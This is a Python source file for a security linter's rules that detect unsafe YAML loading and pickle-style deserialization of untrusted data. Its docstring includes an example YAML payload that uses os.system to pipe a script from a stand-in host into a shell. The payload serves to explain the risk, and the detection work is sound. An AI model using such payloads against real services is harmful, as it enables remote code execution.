"""Security: unsafe YAML loading and deserialization of untrusted data (SEC006, SEC007)."""

from __future__ import annotations

import ast
import re

from prodready.plugin import Category, Confidence, ModuleEnd, PythonContext, Severity, python_rule
from prodready.plugin.analysis import (
    argument,
    constant_str,
    has_star_kwargs,
    is_literal,
    is_true,
    keyword_value,
)
from prodready.plugin.taint import report_deferred
from prodready.rules.security._input_origin import OriginReport

# -- SEC006 ------------------------------------------------------------------------------------

_SAFE_LOADERS = ("SafeLoader", "CSafeLoader", "BaseLoader", "CBaseLoader")
_UNSAFE_LOADERS = ("Loader", "UnsafeLoader", "CLoader", "CUnsafeLoader")
_FULL_LOADERS = ("FullLoader", "CFullLoader")


def _local_file(stream: ast.expr | None, ctx: PythonContext) -> bool:
    """``open("config.yaml")``, a ``with open(...) as f`` handle, or a path constant."""
    if stream is None:
        return False
    if (
        isinstance(stream, ast.Call)
        and isinstance(stream.func, ast.Attribute)
        and stream.func.attr == "read"
    ):
        return _local_file(stream.func.value, ctx)
    name = ctx.qualname(stream) if isinstance(stream, ast.Name | ast.Call) else None
    return name in {"builtins.open", "io.open"} or (name or "").startswith("pathlib.Path")


@python_rule(
    code="SEC006",
    name="yaml-unsafe-load",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="YAML parsed with a loader that can construct arbitrary Python objects",
    calls=(
        "yaml.load",
        "yaml.load_all",
        "yaml.unsafe_load",
        "yaml.unsafe_load_all",
        "yaml.full_load",
        "yaml.full_load_all",
        "ruamel.yaml.YAML",
    ),
    cwe=502,
    fix="Use yaml.safe_load(stream) (or Loader=yaml.SafeLoader / yaml.CSafeLoader).",
)
def yaml_unsafe_load(node: ast.Call, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags `yaml.load`/`yaml.load_all` without a safe `Loader` (`SafeLoader`, `CSafeLoader`,
    `BaseLoader`), with `Loader=yaml.Loader/UnsafeLoader/CLoader`, `yaml.unsafe_load`, and --
    with medium severity -- `FullLoader`/`yaml.full_load`. Also ruamel's `YAML(typ="unsafe")`.
    Evidence tier: `FullLoader` reading a file opened from the local filesystem (a template
    shipped with the service) is reported at low severity with low confidence -- whether
    anyone but the deployment can write that file is out of the rule's sight.

    ## Why it breaks production
    The unsafe loaders build any Python object a document names: a YAML payload with
    `!!python/object/apply:os.system ["curl evil.sh | sh"]` runs a command in your service.
    Any YAML that can come from outside -- an upload, a webhook, a config fetched over the
    network, a file in a shared bucket -- becomes remote code execution. (`yaml.load` without
    a Loader is also a `TypeError` on PyYAML 6.)

    ## Example
    ```python
    @app.post("/pipelines")
    async def import_pipeline(file: UploadFile):
        spec = yaml.load(await file.read(), Loader=yaml.Loader)
    ```

    ## Use instead
    ```python
    @app.post("/pipelines")
    async def import_pipeline(file: UploadFile):
        spec = yaml.safe_load(await file.read())
    ```
    """
    if ctx.facts.is_test:
        return
    name = ctx.call_name or ""
    if name == "ruamel.yaml.YAML":
        if constant_str(argument(node, None, "typ")) == "unsafe":
            ctx.report(
                node,
                'ruamel YAML(typ="unsafe") constructs arbitrary Python objects from the '
                'document: use YAML(typ="safe")',
            )
        return
    stream = argument(node, 0, "stream")
    local = _local_file(stream, ctx)
    confidence = Confidence.MEDIUM if local else Confidence.HIGH
    function = name.rsplit(".", 1)[-1]
    if function.startswith("unsafe_load"):
        ctx.report(
            node,
            f"yaml.{function}() constructs arbitrary Python objects: a crafted document runs "
            "code in this process. Use yaml.safe_load()",
            confidence=confidence,
        )
        return
    if function.startswith("full_load"):
        what = f"yaml.{function}() uses FullLoader"
        _report_full_loader(node, f"yaml.{function}()", what, local, ctx)
        return
    if has_star_kwargs(node):
        return
    loader = argument(node, 1, "Loader")
    if loader is None:
        ctx.report(
            node,
            f"yaml.{function}() without a Loader: PyYAML 5 falls back to an unsafe loader and "
            "PyYAML 6 raises TypeError. Use yaml.safe_load() (or Loader=yaml.SafeLoader)",
            confidence=confidence,
        )
        return
    loader_name = (ctx.qualname(loader) or "").rsplit(".", 1)[-1]
    if loader_name in _UNSAFE_LOADERS:
        ctx.report(
            node,
            f"yaml.{function}() with Loader={loader_name} constructs arbitrary Python objects: "
            "a crafted document runs code in this process. Use yaml.safe_load()",
            confidence=confidence,
        )
    elif loader_name in _FULL_LOADERS:
        what = f"yaml.{function}() with {loader_name}"
        _report_full_loader(node, what, what, local, ctx)


def _report_full_loader(
    node: ast.Call, subject: str, what: str, local: bool, ctx: PythonContext
) -> None:
    """FullLoader builds no arbitrary objects since PyYAML 5.4; reading a file of the local
    installation it is a risk only if someone other than the deployment can write the file,
    which the rule cannot see: low, with low confidence."""
    if local:
        ctx.report(
            node,
            f"{subject} reads a local file: FullLoader has allowed code execution in several "
            "PyYAML releases, and prodready could not tell whether anyone but the deployment "
            "can write this file. Use yaml.safe_load()",
            severity=Severity.LOW,
            confidence=Confidence.LOW,
        )
        return
    ctx.report(
        node,
        f"{what}, which has allowed code execution in several PyYAML releases: use "
        "yaml.safe_load()",
        severity=Severity.MEDIUM,
        confidence=Confidence.HIGH,
    )


# -- SEC007 ------------------------------------------------------------------------------------

_DESERIALIZERS = {
    "pickle.loads": "pickle",
    "pickle.load": "pickle",
    "pickle.Unpickler": "pickle",
    "_pickle.loads": "pickle",
    "_pickle.load": "pickle",
    "cPickle.loads": "pickle",
    "cPickle.load": "pickle",
    "marshal.loads": "marshal",
    "marshal.load": "marshal",
    "dill.loads": "dill",
    "dill.load": "dill",
    "cloudpickle.loads": "cloudpickle",
    "cloudpickle.load": "cloudpickle",
    "jsonpickle.decode": "jsonpickle",
    "joblib.load": "joblib",
    "pandas.read_pickle": "pandas.read_pickle",
    "numpy.load": "numpy.load(allow_pickle=True)",
    "shelve.open": "shelve",
}


@python_rule(
    code="SEC007",
    name="unsafe-deserialization",
    category=Category.SECURITY,
    severity=Severity.HIGH,
    summary="pickle/marshal/dill/jsonpickle used on data from outside the process",
    calls=tuple(_DESERIALIZERS),
    nodes=(ModuleEnd,),
    cwe=502,
    fix="Exchange data as JSON (or msgpack/protobuf) and validate it; never unpickle input.",
)
def unsafe_deserialization(node: ast.AST, ctx: PythonContext) -> None:
    """
    ## What it does
    Flags `pickle.loads/load`, `marshal`, `dill`, `cloudpickle`, `jsonpickle.decode`,
    `joblib.load`, `pandas.read_pickle` and `numpy.load(allow_pickle=True)` when the data comes
    from outside the process: request bodies, uploaded files, handler parameters, HTTP
    responses, sockets, message payloads or cache/Redis reads -- or when a request handler
    unpickles anything but a local file (also through a helper of the module a caller passes
    such data). Unpickling files at paths the code fixes is not reported; `shelve.open` of a
    file counts as unpickling it.
    Audit tier: data no outside source is seen reaching but that is not provably the
    service's own -- a file at a path a helper is given, `sys.argv`, a call the scan cannot
    see into -- is reported at low severity with low confidence, naming the value to check.

    ## Why it breaks production
    Unpickling runs code chosen by whoever wrote the bytes (`__reduce__` can return
    `os.system`). A request body, a webhook, a queue message or a cache entry that an attacker
    can influence -- a shared Redis without auth is enough -- becomes remote code execution in
    the service, with its credentials and network access.

    ## Example
    ```python
    @app.post("/jobs")
    def submit_job():
        job = pickle.loads(request.get_data())
        queue.enqueue(job)
    ```

    ## Use instead
    ```python
    @app.post("/jobs")
    def submit_job():
        job = JobSpec.model_validate_json(request.get_data())
        queue.enqueue(job.model_dump())
    ```
    If the bytes must be trusted objects, sign them (`hmac`) and verify before loading.
    """
    if isinstance(node, ast.Module):
        report_deferred(ctx)
        return
    if ctx.facts.is_test or not isinstance(node, ast.Call):
        return
    name = ctx.call_name or ""
    kind = _DESERIALIZERS.get(name, name)
    if name == "numpy.load" and not is_true(keyword_value(node, "allow_pickle")):
        return
    data = argument(node, 0, None)
    if data is None:
        keywords = {"data", "file", "s", "fp", "filename"}
        data = next((k.value for k in node.keywords if k.arg in keywords), None)
    if data is None or is_literal(data):
        return
    call = node

    def proven(source: str) -> None:
        confidence = Confidence.MEDIUM if source.startswith(("a cache", "a message")) else None
        ctx.report(
            call,
            f"{kind} deserializes {source}: whoever controls those bytes runs code in this "
            "process. Exchange JSON (or another data-only format) and validate it",
            confidence=confidence or Confidence.HIGH,
        )

    def in_context() -> bool:
        declared = _chosen_by_declared_format(call, ctx)
        if declared is not None:
            ctx.report(
                call,
                f"{kind} is chosen by the data's own declared format ({declared}): whoever "
                "sends the message picks pickle and runs code in this process. Accept only "
                "data formats (JSON) whatever the content type says",
            )
            return True
        if (
            ctx.route is not None
            and not _local_file(data, ctx)
            and not _is_constant_path(data, ctx)
        ):
            ctx.report(
                call,
                f"{kind} deserializes data inside a request handler: if any of it comes from "
                "the client or shared storage, that is remote code execution. Use JSON and "
                "validate it",
                confidence=Confidence.MEDIUM,
            )
            return True
        return False

    def audit(part: str) -> None:
        ctx.report(
            call,
            f"{kind} deserializes data from {part}, which is not provably the service's own; "
            "no request data was seen reaching it. Check who can write those bytes (an upload, "
            "a shared bucket or cache, a file another party supplies): whoever can runs code "
            "in this process. Prefer JSON, or verify a signature (hmac) before loading",
            severity=Severity.LOW,
            confidence=Confidence.LOW,
        )

    OriginReport(node, ctx, request=proven, fallback=in_context, audit=audit, web_only=False).run(
        [data]
    )


_FORMAT_FIELD = re.compile(r"content[_-]?type|content[_-]?encoding|mime[_-]?type|serializer|format")


def _chosen_by_declared_format(node: ast.Call, ctx: PythonContext) -> str | None:
    """The call sits in a branch taken when the message's (or request's) own content type,
    encoding or format field says pickle: ``if properties.content_type ==
    "application/x-python-pickle": pickle.loads(body)`` -- the sender chooses the decoder."""
    child: ast.AST = node
    parent = ctx.parent(node)
    while parent is not None and not isinstance(parent, ast.FunctionDef | ast.AsyncFunctionDef):
        if isinstance(parent, ast.If | ast.IfExp) and child is not parent.test:
            test = ctx.segment(parent.test)
            in_body = child in parent.body if isinstance(parent, ast.If) else child is parent.body
            if (
                in_body
                and _FORMAT_FIELD.search(test.lower())
                and _names_pickle_literally(parent.test)
            ):
                return test if len(test) <= 80 else test[:77] + "..."
        child, parent = parent, ctx.parent(parent)
    return None


def _names_pickle_literally(test: ast.expr) -> bool:
    """The condition compares with a literal naming pickle (``== "application/x-python-pickle"``)
    -- not with a constant of the program's own formats (a model flavour's
    ``SERIALIZATION_FORMAT_PICKLE`` read from its local metadata file)."""
    return any(
        isinstance(node, ast.Constant) and "pickle" in str(node.value).lower()
        for node in ast.walk(test)
    )


def _is_constant_path(expr: ast.expr, ctx: PythonContext) -> bool:
    if isinstance(expr, ast.Name):
        value = ctx.value_of(expr.id)
        if value is None:
            return expr.id.isupper()
        expr = value
    if isinstance(expr, ast.Call):
        return all(is_literal(a) or _is_constant_path(a, ctx) for a in expr.args)
    if isinstance(expr, ast.Attribute):
        return expr.attr.isupper()
    return is_literal(expr) or isinstance(expr, ast.JoinedStr | ast.BinOp)
